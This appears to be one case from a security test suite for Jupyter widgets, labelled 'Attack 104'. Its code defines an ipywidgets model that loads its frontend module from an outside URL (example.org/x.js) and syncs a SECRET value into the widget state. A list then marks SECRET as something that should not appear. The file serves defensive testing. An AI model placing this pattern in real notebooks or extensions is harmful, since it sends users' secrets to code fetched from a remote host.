"""Attack 104: comm model"""

IDEA = "A widget model from a module that the page would load."
SOURCE = "ipywidgets, custom widgets"
WAY = "iopub/comm_open/data"
CODE = """
import ipywidgets
from traitlets import Unicode


class Mine(ipywidgets.DOMWidget):
    _model_module = Unicode("https://example.org/x.js").tag(sync=True)
    _model_name = Unicode("XModel").tag(sync=True)
    secret = Unicode(SECRET).tag(sync=True)


mine = Mine()
"""
ABSENT = ["SECRET"]
